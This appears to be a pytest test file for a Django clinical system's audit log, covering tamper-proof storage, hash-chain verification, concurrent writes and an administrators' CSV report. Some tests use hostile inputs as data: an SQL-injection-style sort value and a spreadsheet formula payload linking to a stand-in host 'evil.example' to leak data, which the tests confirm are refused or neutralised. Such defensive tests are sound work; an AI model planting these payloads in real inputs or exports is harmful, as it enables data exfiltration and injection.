import csv
import io

import pgtrigger
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import DatabaseError, connection, transaction
from django.urls import reverse

from accounts import audit
from accounts.models import AuditEvent
from core.audit import Category, Verb
from patients import services
from patients.tests.factories import PatientFactory


@pytest.mark.django_db
def test_a_change_to_a_patient_is_audited_with_old_and_new_values(patient, frontdesk):
    old_phone = str(patient.phone)
    services.patient_update(patient=patient, by=frontdesk, phone="+12125550199")
    event = AuditEvent.objects.get(action="patients.patient.updated")
    assert event.actor == frontdesk
    assert event.role == "front_desk"
    assert event.patient_id == patient.pk
    assert event.patient_mrn == patient.mrn
    assert event.changes == {"phone": [old_phone, "+12125550199"]}


@pytest.mark.django_db
def test_opening_a_chart_is_audited_as_a_read(client, clinician, patient):
    client.force_login(clinician)
    client.get(reverse("patients:detail", args=[patient.pk]), REMOTE_ADDR="10.1.2.3")
    event = AuditEvent.objects.get(action="patients.patient.viewed")
    assert (event.verb, event.actor, event.patient_id) == ("read", clinician, patient.pk)
    assert event.ip_address == "10.1.2.3"
    assert event.request_id


@pytest.mark.django_db
@pytest.mark.parametrize(
    "statement",
    ["UPDATE accounts_auditevent SET action = 'tampered'", "DELETE FROM accounts_auditevent"],
)
def test_the_database_refuses_to_change_or_delete_audit_rows(patient, frontdesk, statement):
    services.patient_update(patient=patient, by=frontdesk, city="Springfield")
    refused = pytest.raises(DatabaseError, match="Cannot update or delete")
    with refused, transaction.atomic(), connection.cursor() as cursor:
        cursor.execute(statement)
    assert AuditEvent.objects.filter(action="patients.patient.updated").count() == 1


@pytest.mark.django_db
def test_the_hash_chain_detects_a_row_altered_behind_the_triggers_back(patient, frontdesk):
    for city in ("A-town", "B-town", "C-town"):
        services.patient_update(patient=patient, by=frontdesk, city=city)
    call_command("verify_audit_chain")
    victim = AuditEvent.objects.order_by("id")[1]
    with pgtrigger.ignore("accounts.AuditEvent:auditevent_append_only"):
        AuditEvent.objects.filter(pk=victim.pk).update(action="innocent.looking")
    with pytest.raises(CommandError, match="fail the chain"):
        call_command("verify_audit_chain")


@pytest.mark.django_db
def test_administrators_filter_sort_and_export_the_audit_report(client, admin, frontdesk, patient):
    services.patient_update(patient=patient, by=frontdesk, city="Shelbyville")
    audit.record(actor=admin, action="accounts.test.other", verb=Verb.QUERY, category=Category.AUDIT)
    client.force_login(admin)
    page = client.get(reverse("accounts:audit-report"), {"patient": patient.mrn, "sort": "-at"})
    body = page.content.decode()
    assert page.status_code == 200
    assert "patients.patient.updated" in body
    assert "accounts.test.other" not in body

    export = client.get(reverse("accounts:audit-report"), {"patient": patient.mrn, "format": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    assert rows[0][:3] == ["When (UTC)", "User", "Role"]
    assert [r[4] for r in rows[1:]] == ["patients.patient.updated"]
    assert AuditEvent.objects.filter(action="accounts.audit_report.exported", actor=admin).exists()


@pytest.mark.django_db
def test_an_unknown_sort_column_is_refused_not_passed_to_sql(client, admin):
    client.force_login(admin)
    response = client.get(reverse("accounts:audit-report"), {"sort": "password; DROP TABLE x"})
    assert response.status_code == 200
    assert "Select a valid choice" in response.content.decode()


@pytest.mark.django_db
def test_record_many_appends_in_order_and_the_chain_still_verifies(patient, frontdesk):
    services.patient_update(patient=patient, by=frontdesk, city="A-town")
    specs = [
        {
            "actor": frontdesk,
            "action": f"test.batch.{i}",
            "verb": Verb.CREATE,
            "category": Category.DEMOGRAPHICS,
            "patient": patient,
        }
        for i in range(3)
    ]
    events = audit.record_many(specs)
    services.patient_update(patient=patient, by=frontdesk, city="B-town")
    assert [e.action for e in AuditEvent.objects.filter(action__startswith="test.batch.").order_by("id")] == [
        "test.batch.0",
        "test.batch.1",
        "test.batch.2",
    ]
    assert events[1].prev_hash == events[0].row_hash
    assert (events[0].role, events[0].patient_mrn) == ("front_desk", patient.mrn)
    assert audit.verify_chain() == (5, [])
    assert audit.record_many([]) == []


@pytest.mark.django_db
@pytest.mark.parametrize("size", [1, 2, 20])
def test_a_batch_stores_each_events_own_values_whether_shared_or_not(patient, frontdesk, admin, size):
    """The batch writer sends the columns its events share once and the others per event: every
    stored row is what a one-by-one write would have stored, and the chain verifies."""
    other = PatientFactory()
    specs = [
        {
            "actor": frontdesk if i % 2 else admin,
            "action": "test.shared" if i % 3 else f"test.own.{i}",
            "verb": Verb.READ,
            "category": Category.DEMOGRAPHICS,
            "patient": patient if i % 2 else other,
            "changes": {"client": "app", "scope": "user/*.read", **({"n": i} if i == 1 else {})},
        }
        for i in range(size)
    ]

    events = audit.record_many(specs)

    stored = list(AuditEvent.objects.filter(pk__in=[e.pk for e in events]).order_by("id"))
    assert [e.pk for e in events] == [row.pk for row in stored]
    for spec, row in zip(specs, stored, strict=True):
        assert (row.actor_id, row.action, row.patient_id, row.patient_mrn, row.changes) == (
            spec["actor"].pk,
            spec["action"],
            spec["patient"].pk,
            spec["patient"].mrn,
            spec["changes"],
        )
        assert row.role == ("front_desk" if spec["actor"] == frontdesk else "administrator")
    assert audit.verify_chain()[1] == []


@pytest.mark.django_db(transaction=True)
def test_writers_racing_on_their_own_connections_keep_one_unbroken_chain(patient, frontdesk):
    """Reads (one statement each) and batches (one transaction each) from 12 connections at once:
    every event lands once, ids follow the chain, and PostgreSQL's hashes match Python's."""
    import threading
    from concurrent.futures import ThreadPoolExecutor

    barrier = threading.Barrier(12)

    def writer(n):
        try:
            barrier.wait(timeout=30)
            for i in range(5):
                if n % 3:
                    audit.record_read(
                        actor=frontdesk,
                        action=f"race.{n}.{i}",
                        target=patient,
                        patient=patient,
                        category=Category.DEMOGRAPHICS,
                    )
                else:
                    audit.record_many(
                        [
                            {
                                "actor": None,
                                "action": f"race.{n}.{i}.{k}",
                                "verb": Verb.CREATE,
                                "category": Category.AUDIT,
                            }
                            for k in range(3)
                        ]
                    )
        finally:
            connection.close()

    with ThreadPoolExecutor(max_workers=12) as pool:
        list(pool.map(writer, range(12)))

    assert AuditEvent.objects.filter(action__startswith="race.").count() == 8 * 5 + 4 * 5 * 3
    checked, broken = audit.verify_chain()
    assert broken == []
    assert checked == AuditEvent.objects.count()


@pytest.mark.django_db(transaction=True)
def test_a_flushed_chain_head_restarts_from_the_newest_event(patient, frontdesk):
    first = audit.record_read(
        actor=frontdesk, action="t.one", target=patient, patient=patient, category=Category.DEMOGRAPHICS
    )
    with connection.cursor() as cursor:
        cursor.execute("TRUNCATE accounts_auditchain")  # what a test database flush does
    second = audit.record_read(
        actor=frontdesk, action="t.two", target=patient, patient=patient, category=Category.DEMOGRAPHICS
    )
    assert second.prev_hash == first.row_hash
    assert audit.verify_chain()[1] == []


@pytest.mark.django_db
def test_csv_formula_injection_a_formula_in_the_audit_export_is_text(client, admin, patient):
    # The audit export carries user names and actions typed elsewhere: a cell that a spreadsheet
    # would run as a formula is written as text.
    from accounts.tests.factories import UserFactory

    formula = '=HYPERLINK("http://evil.example/?leak","Open")'
    audit.record(
        actor=UserFactory(username=formula),
        action="@SUM(1+1)",
        verb=Verb.READ,
        category=Category.DEMOGRAPHICS,
        patient=patient,
    )
    client.force_login(admin)
    export = client.get(reverse("accounts:audit-report"), {"patient": patient.mrn, "format": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    row = next(r for r in rows[1:] if r[4] == "'@SUM(1+1)")
    assert row[1] == "'" + formula
    assert not [cell for r in rows for cell in r if cell[:1] in ("=", "+", "@", "-")]


@pytest.mark.django_db
def test_a_bare_string_verb_or_category_is_refused_before_anything_is_written(admin):
    """Even the exact string of a member: a bare string is where a typo hides."""
    with pytest.raises(TypeError, match="core.audit.Verb member, not str 'sign'"):
        audit.record(actor=admin, action="accounts.test.typo", verb="sign", category=Category.CLINICAL)
    with pytest.raises(TypeError, match="core.audit.Verb member, not str 'signed'"):
        audit.record(actor=admin, action="accounts.test.typo", verb="signed", category=Category.CLINICAL)
    with pytest.raises(TypeError, match="core.audit.Category member, not str 'clinical'"):
        audit.record(actor=admin, action="accounts.test.typo", verb=Verb.SIGN, category="clinical")
    with pytest.raises(TypeError):
        audit.record(actor=admin, action="accounts.test.typo", verb=None, category=Category.CLINICAL)
    with pytest.raises(TypeError):  # a member of the other enum is no verb
        audit.record(actor=admin, action="accounts.test.typo", verb=Category.AUDIT, category=Category.AUDIT)
    with pytest.raises(TypeError, match="Category member, not str 'clinical'"):
        audit.record_read(actor=admin, action="accounts.test.typo", target=None, patient=None, category="clinical")
    with pytest.raises(TypeError, match="not str 'create'"):
        audit.record_many(
            [{"actor": admin, "action": "accounts.test.typo", "verb": "create", "category": Category.AUDIT}]
        )
    assert not AuditEvent.objects.filter(action="accounts.test.typo").exists()


@pytest.mark.django_db
def test_a_member_is_stored_as_its_plain_value(admin):
    event = audit.record(actor=admin, action="accounts.test.sign", verb=Verb.SIGN, category=Category.CLINICAL)
    assert type(event.verb) is str
    assert type(event.data_category) is str
    assert (event.verb, event.data_category) == ("sign", "clinical")
    stored = AuditEvent.objects.get(pk=event.pk)
    assert (stored.verb, stored.data_category) == ("sign", "clinical")
    assert AuditEvent.Verb is Verb  # one vocabulary
    assert AuditEvent.Category is Category
    call_command("verify_audit_chain")
